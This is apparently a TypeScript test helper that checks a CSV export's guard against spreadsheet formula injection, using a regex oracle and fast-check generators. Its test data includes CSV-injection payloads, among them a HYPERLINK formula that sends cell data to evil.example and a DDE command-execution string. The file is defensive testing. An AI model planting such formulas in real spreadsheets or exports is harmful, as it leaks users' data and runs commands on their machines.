// What the CSV tests count as a formula, written independently of lib/export/csv.ts so that the
// tests check the guard rather than repeat it: text a spreadsheet would evaluate starts with
// = + - @ (or their full-width forms), possibly after blanks, line breaks or invisible characters
// an importer may trim, or with a tab or carriage return (OWASP's list). A whole plain decimal
// number ("-5", "-1.5e-7") is a number to a spreadsheet, never a formula.
import fc from "fast-check";

const TRIGGER = /^(?:[\t\r]|[\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
const PLAIN_NUMBER = /^-?(?:\d+(?:\.\d+)?|\.\d+)(?:e[+-]?\d+)?$/i;

export function isFormulaLike(cell: string): boolean {
  return TRIGGER.test(cell) && !PLAIN_NUMBER.test(cell);
}

const lead = fc.constantFrom("", " ", "  ", "\n", "\r\n", "\t", "\r", "\u00a0", "\u200b", "\u200e", "\ufeff", "\u3000", "\u0000");
const sign = fc.constantFrom("=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");

/** Text built to start a formula: a known payload, or any text after a blank and a sign. */
const formulaText = fc.oneof(
  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1", "-Infinity", "=1", "-", "-1", "-5e3"),
  fc.tuple(lead, sign, fc.string()).map(([a, b, c]) => a + b + c),
  // A formula on a later line of the same text.
  fc.tuple(fc.string(), sign, fc.string()).map(([a, b, c]) => `${a}\n${b}${c}`),
);

/** Any value a row might hold: text, numbers, bigints, dates (valid or not), lists, objects, anything. */
export const cellValue: fc.Arbitrary<unknown> = fc.oneof(
  formulaText,
  fc.array(fc.oneof(formulaText, fc.string(), fc.integer()), { maxLength: 4 }),
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
  fc.double(),
  fc.bigInt(),
  fc.integer().map(String),
  fc.date({ noInvalidDate: false }),
  fc.dictionary(fc.string(), formulaText, { maxKeys: 3 }),
  fc.anything(),
);
